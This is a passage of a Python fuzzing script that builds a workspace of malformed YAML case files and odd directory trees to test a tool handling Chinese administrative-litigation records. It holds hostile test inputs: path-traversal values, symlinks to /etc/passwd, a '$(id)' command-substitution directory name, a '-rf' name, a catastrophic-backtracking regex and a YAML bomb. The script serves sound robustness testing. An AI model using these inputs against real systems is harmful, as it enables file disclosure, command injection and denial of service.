        (swapped("方式: 补救补偿,", f"方式: 补救补偿, 凭证: {quoted(path)},") for path in few),
    )


def impossible_facts() -> Iterator[Piece]:
    """Yield files that the schema may take and the arithmetic must survive."""
    facts = {
        "suspension-reversed": swapped("{自: 2025-04-20, 至: 2025-05-08", "{自: 2025-05-08, 至: 2025-04-20"),
        "suspension-no-end": swapped("自: 2025-04-20, 至: 2025-05-08, ", "自: 2025-04-20, "),
        "suspension-no-start": swapped("自: 2025-04-20, 至: 2025-05-08, ", "至: 2025-05-08, "),
        "suspension-empty": swapped(
            "中止: [{自: 2025-04-20, 至: 2025-05-08, 事由: 等待另案结果}]", "中止: [{}]"
        ),
        "suspension-endless": swapped("至: 2025-05-08", "至: 9999-12-31"),
        "suspension-of-all-time": swapped("自: 2025-04-20, 至: 2025-05-08", "自: 0001-01-01, 至: 9999-12-31"),
        "suspension-overlapping": swapped("中止: [{", "中止: [{自: 2025-04-25, 至: 2025-05-20, 事由: 甲}, {"),
        "performance-suspension-reversed": swapped(
            "自: 2025-09-01, 至: 2025-09-10", "自: 2025-09-10, 至: 2025-09-01"
        ),
        "performance-suspension-endless": swapped("至: 2025-09-10", "至: 9999-12-31"),
        "performance-days-overflow": with_value("期限日数", "3000000"),
        "performance-done-and-ended": swapped("    期限日数", "    完成日期: 2025-09-01\n    期限日数"),
        "performance-no-start": swapped("    起算: 2025-08-25\n", ""),
        "effective-before-decided": swapped("生效日期: 2025-08-25", "生效日期: 2020-01-01"),
        "no-defendants": swapped(
            "被告:\n  - {单位: 县自然资源局, 地位: 原行为机关}\n  - {单位: 县人民政府, 地位: 复议机关}",
            "被告: []",
        ),
        "no-plaintiffs": with_value("原告", "[]"),
        "no-parties": re.sub(r"(?m)^(原告|被告|第三人):.*\n(?:  - .*\n)*", "", VALID),
        "defendant-twice": swapped(
            "单位: 县人民政府, 地位: 复议机关", "单位: 县自然资源局, 地位: 原行为机关"
        ),
        "plaintiff-is-defendant": swapped("姓名: 张某", "姓名: 县自然资源局"),
        "result-for-stranger": swapped(
            "- {单位: 县人民政府, 结果: 撤销", "- {单位: 某市人民政府, 结果: 撤销"
        ),
        "result-twice": swapped("- {单位: 县人民政府, 结果: 撤销", "- {单位: 县自然资源局, 结果: 维持"),
        "result-without-unit": swapped("- {单位: 县人民政府, 结果: 撤销", "- {结果: 撤销"),
        "appeal-not-a-list": swapped(
            "上诉: [{上诉方: 被告, 单位: 县自然资源局, 日期: 2025-06-05}]", "上诉: {上诉方: 被告}"
        ),
        "appeal-empty": swapped("上诉: [{上诉方: 被告, 单位: 县自然资源局, 日期: 2025-06-05}]", "上诉: []"),
        "appeal-late": swapped("日期: 2025-06-05", "日期: 2029-06-05"),
        "hearing-without-day": swapped("      - 日期: 2025-05-12\n        方式", "      - 方式"),
        "hearing-null": swapped("    开庭:\n", "    开庭:\n      -\n"),
        "hearing-sixty": swapped('时间: "09:00"', "时间: 09:00"),
        "hearing-bad-time": swapped('时间: "09:00"', '时间: "25:61"'),
        "waiver-of-everything": swapped("规则: YS301", "规则: '*'"),
        "waiver-unknown": swapped("规则: YS301", "规则: YS999"),
        "waiver-pattern": swapped("规则: YS301", "规则: 'YS(.+)+$'"),
        "risk-code-unknown": swapped("编号: JD-CX-03", "编号: XX-YY-99"),
        "risk-code-path": swapped("编号: JD-CX-03", "编号: ../../risk-points"),
        "risk-empty": swapped("  - {阶段: 送达, 类型: 程序缺失, 说明: 留置送达无见证人}", "  - {}"),
        "unit-is-a-path": VALID.replace("县自然资源局", "../../县"),
        "unit-is-a-number": VALID.replace("县自然资源局", "1e3"),
        "unit-is-empty": VALID.replace("县自然资源局", "''").replace("张某诉''", "张某诉"),
        "everything-empty": re.sub(r"(?m)^([一-鿿]+):.*\n(?:(?: |\n).*\n?)*", r"\1:\n", VALID),
    }
    yield from ((f"fact-{name}", text) for name, text in facts.items())


# ---------------------------------------------------------------------------------------- mutations

# One to a line would hide which belong together.
# fmt: off
EVIL = (
    *(
        "\t", "\x00", "\ufeff", "：", "，", "\u2028", "\u3000", "\u200b", "&a ", "*a ", "!!x ", "- ", ": ",
        "[", "]", "{",
    ),
    *(
        "}", '"', "'", "|", ">", "#", "? ", "\n", "\r", "---\n", "...\n", "<<: ", "~", "%", "@", "`",
        "\ud800", "😀", "\x1b[0m",
    ),
)
# fmt: on


def mutated(rng: Random) -> str:
    """Return the valid case after a few accidents."""
    text = VALID
    for _ in range(rng.randint(1, 6)):
        at = rng.randrange(len(text))
        to = min(len(text), at + rng.choice((1, 1, 2, 5, 30, 300)))
        accident = rng.randrange(5)
        if accident == 0:
            text = text[:at] + text[to:]
        elif accident == 1:
            text = text[:to] + text[at:to] + text[to:]
        elif accident == 2:
            text = text[:at] + rng.choice(EVIL) + text[at:]
        elif accident == 3:
            text = text[:at] + rng.choice(EVIL) + text[at + 1 :]
        else:
            lines = text.splitlines(keepends=True)
            one, other = rng.randrange(len(lines)), rng.randrange(len(lines))
            lines[one], lines[other] = lines[other], lines[one]
            text = "".join(lines)
    return text


def flipped(rng: Random) -> bytes:
    """Return the valid case with a few bits turned over."""
    body = bytearray(VALID.encode())
    for _ in range(rng.randint(1, 8)):
        body[rng.randrange(len(body))] ^= 1 << rng.randrange(8)
    return bytes(body)


def shuffled(rng: Random) -> str:
    """Return the lines of the valid case in another order."""
    lines = VALID.splitlines(keepends=True)
    rng.shuffle(lines)
    return "".join(lines)


def accidents() -> Iterator[Piece]:
    """Yield the valid case cut off, mutated, with bits flipped, and with its lines shuffled."""
    rng, whole = Random(2), VALID.encode()  # noqa: S311  repeatable, not secret
    for end in range(37, len(whole), 211):
        yield f"cut-at-{end:05d}", whole[:end]
    for start in range(101, len(whole), 997):
        yield f"cut-before-{start:05d}", whole[start:]
    yield from numbered("mutated", (mutated(rng) for _ in range(80)))
    yield from numbered("flipped", (flipped(rng) for _ in range(20)))
    yield from numbered("shuffled", (shuffled(rng) for _ in range(12)))


KINDS = (
    *(encodings, broken_bytes, control_characters, whole_documents, line_ends, spaces, full_width, features),
    *(depth, sizes, scalars, dates, syntax, wrong_types, words, keys, case_numbers, paths, impossible_facts),
    accidents,
)


def more() -> Iterator[Piece]:
    """Yield mutations without end."""
    rng = Random(3)  # noqa: S311  repeatable, not secret
    for number in count(1):
        yield f"more-{number:05d}", mutated(rng) if number % 2 else flipped(rng)


def hostile_files(least: int = 0) -> Iterator[tuple[str, bytes]]:
    """Yield (relative name, bytes), no two alike; all that are written here, then mutations up to `least`."""
    seen = {encoded(VALID)}
    written = chain.from_iterable(kind() for kind in KINDS)
    for what, content in chain(written, islice(more(), least)):
        body = encoded(content)
        if body in seen or (what.startswith("more-") and len(seen) > least):
            continue
        yield f"{len(seen):04d}-{what}.yaml", body
        seen.add(body)


# ------------------------------------------------------------------------------------------ the workspace


def odd_names(year: Path) -> None:
    """Write the valid case below directories with names that a shell, a terminal or a table stumbles over."""
    names = [
        "表情😀",
        "有 空格",
        " 首空格",
        "换\n行",
        "-rf",
        "%2e%2e",
        "$(id)",
        "'引\"号'",
        "#井号",
        "[a]*?",
        "红\x1b[31m",
    ]
    names += [
        "e\u0301",
        "\xe9",
        "CON",
        "a:b",
        "点.",
        "x" * 240,
        "\u202egpj",
        "\u3000",
        "0306-A",
        "0306-a",
        os.fsdecode(b"\xff\xfe"),
    ]
    for name in names:
        with contextlib.suppress(OSError, ValueError):
            (year / name).mkdir(parents=True)
            (year / name / "case.yaml").write_text(VALID, encoding="utf-8")


CLOSED = ("tree-unreadable-file", "tree-unreadable-directory")


def linked(place: Path, target: str | Path, *, directory: bool = False) -> None:
    """Make a link, where the system has them."""
    with contextlib.suppress(OSError, NotImplementedError):
        place.parent.mkdir(parents=True, exist_ok=True)
        place.symlink_to(target, target_is_directory=directory)


def links(root: Path) -> None:
    """Make links that lead out, in circles, or nowhere."""
    year = root / "cases" / "2025"
    linked(year / "tree-case-outside", "/etc", directory=True)
    linked(year / "tree-file-outside" / "case.yaml", "/etc/passwd")
    linked(year / "tree-file-other-case" / "case.yaml", "../tree-valid/case.yaml")
    linked(year / "tree-file-itself" / "case.yaml", "case.yaml")
    linked(year / "tree-dangling" / "case.yaml", "nowhere.yaml")
    linked(year / "tree-dangling-directory", "nowhere", directory=True)
    linked(year / "tree-loop", ".", directory=True)
    linked(year / "tree-loop-up", "../..", directory=True)
    linked(root / "cases" / "2019", "2025", directory=True)
    linked(root / "cases" / "2018", "2018", directory=True)
    linked(year / "tree-materials" / "材料", "/etc", directory=True)
    lists_a_file = swapped("{名称: 应诉通知书,", "{名称: 应诉通知书, 文件: 材料/passwd,")
    (year / "tree-materials" / "case.yaml").write_text(lists_a_file, encoding="utf-8")


def misplaced(root: Path) -> None:
    """Write files and directories where the other kind belongs, and registers that are none."""
    cases = root / "cases"
    year = cases / "2025"
    (year / "tree-directory" / "case.yaml" / "case.yaml").mkdir(parents=True)
    (year / "tree-empty").mkdir()
    (year / "tree-deep" / "/".join("d" * 60)).mkdir(parents=True)
    (year / "case.yaml").write_text(VALID, encoding="utf-8")
    (cases / "2017").write_text("这是文件，不是目录\n", encoding="utf-8")
    for folder in ("99999", "二〇二五", "-1", "2025 "):
        with contextlib.suppress(OSError):
            (cases / folder / "0306-甲").mkdir(parents=True)
            (cases / folder / "0306-甲" / "case.yaml").write_text(VALID, encoding="utf-8")
    for register, text in (("events", BOMB), ("letters", "甲：乙\n"), ("screenings/2025", "[" * DEEP)):
        (cases / register).mkdir(parents=True)
        (cases / register / "2025.yaml").write_text(text, encoding="utf-8")


def tree_shapes(root: Path, *, devices: bool = False) -> None:
    """Make what only a disk can hold; `open_again` before deleting it as anybody but root.

    Args:
        root: the workspace, with nothing in it yet that is called tree-….
        devices: also a pipe nobody writes to, and a link to /dev/zero: a careless reader never returns.
    """
    year = root / "cases" / "2025"
    for name in ("tree-valid", *CLOSED, "tree-materials", "tree-capitals"):
        (year / name).mkdir()
        (year / name / "case.yaml").write_text(VALID, encoding="utf-8")
    (year / "tree-capitals" / "case.yaml").rename(year / "tree-capitals" / "CASE.YAML")
    links(root)
    misplaced(root)
    odd_names(year)
    if devices and hasattr(os, "mkfifo"):
        (year / "tree-pipe").mkdir()
        os.mkfifo(year / "tree-pipe" / "case.yaml")
        linked(year / "tree-zero" / "case.yaml", "/dev/zero")
    (year / CLOSED[0] / "case.yaml").chmod(0)
    (year / CLOSED[1]).chmod(0)


def open_again(root: Path) -> None:
    """Let the unreadable file and directory be read, so that a test can clean up."""
    year = root / "cases" / "2025"
    (year / CLOSED[1]).chmod(0o700)
    (year / CLOSED[0] / "case.yaml").chmod(0o600)


def write_workspace(root: Path, *, least: int, devices: bool = False) -> int:
    """Write the hostile files as a workspace; return how many."""
    (root / "cases" / "2025").mkdir(parents=True)
    (root / "yingsu.yaml").write_text(SETTINGS, encoding="utf-8")
    (root / "cases" / "units.yaml").write_text(UNITS, encoding="utf-8")
    files = dict(hostile_files(least))
    for name, body in files.items():
        place = root / "cases" / "2025" / name.removesuffix(".yaml")
        place.mkdir()
        (place / "case.yaml").write_bytes(body)
    tree_shapes(root, devices=devices)
    return len(files)


def main(argv: Sequence[str] | None = None) -> int:
    """Read the command line and write the workspace."""
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("dir", type=Path, help="directory to write; must be new or empty")
    parser.add_argument("--count", type=int, default=300, help="at least so many files (default 300)")
    parser.add_argument("--devices", action="store_true", help="also a pipe and a link to /dev/zero")
    options = parser.parse_args(argv)
    if options.dir.exists() and any(options.dir.iterdir()):
        parser.error(f"{options.dir} is not empty")
    written = write_workspace(options.dir, least=options.count, devices=options.devices)
    sys.stdout.write(f"{written} hostile case files and the odd shapes of a tree in {options.dir}\n")
    return 0


if __name__ == "__main__":
    sys.exit(main())
